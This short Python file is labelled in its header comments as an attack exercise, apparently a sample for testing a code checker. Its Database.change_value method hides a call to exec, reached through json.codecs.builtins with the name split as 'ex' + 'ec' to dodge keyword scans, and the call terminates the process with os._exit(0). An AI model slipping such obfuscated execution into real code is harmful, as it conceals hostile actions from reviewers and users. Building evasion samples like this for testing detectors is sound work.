# attack: Evaluates text by a name that is put together.
# line: own
# exercise: 06
# score: 2, the stub's
import json


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        getattr(json.codecs.builtins, "ex" + "ec")("import os; os._exit(0)")
